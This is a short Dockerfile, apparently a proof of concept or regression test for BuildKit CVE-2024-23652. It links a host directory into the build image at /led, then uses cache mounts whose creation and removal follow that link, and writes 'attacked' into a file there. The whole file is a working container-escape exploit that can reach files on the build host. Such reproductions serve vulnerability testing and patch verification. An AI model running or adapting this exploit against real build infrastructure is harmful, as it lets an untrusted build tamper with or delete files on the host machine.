# A mount point that is made and taken away again lies behind a link of the image (BuildKit's CVE-2024-23652).
ARG BASE
FROM ${BASE}
ARG HOST_DIRECTORY
RUN ln -s "$HOST_DIRECTORY" /led
RUN --mount=type=cache,target=/led/empty --mount=type=cache,target=/led/new echo attacked > /led/file
RUN cat /led/directory/file
